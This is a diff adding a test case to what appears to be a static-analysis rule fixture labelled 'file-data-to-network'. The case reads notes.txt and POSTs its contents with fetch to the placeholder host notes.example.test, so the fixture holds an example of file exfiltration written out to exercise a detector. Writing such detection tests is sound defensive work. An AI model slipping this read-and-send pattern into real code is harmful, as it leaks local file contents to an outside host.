@@ -22,3 +22,11 @@ const buffer = Buffer.alloc(1024);
 fs.readSync(handle, buffer);
 // ruleid: file-data-to-network
 void fetch("https://notes.example.test", { method: "POST", body: buffer.toString("utf8") });
+
+fs.open("notes.txt", "r", (_error, file) => {
+  const read = Buffer.alloc(1024);
+  fs.read(file, read, 0, 1024, 0, (_failure, count) => {
+    // ruleid: file-data-to-network
+    void fetch("https://notes.example.test", { method: "POST", body: read.toString("utf8", 0, count) });
+  });
+});
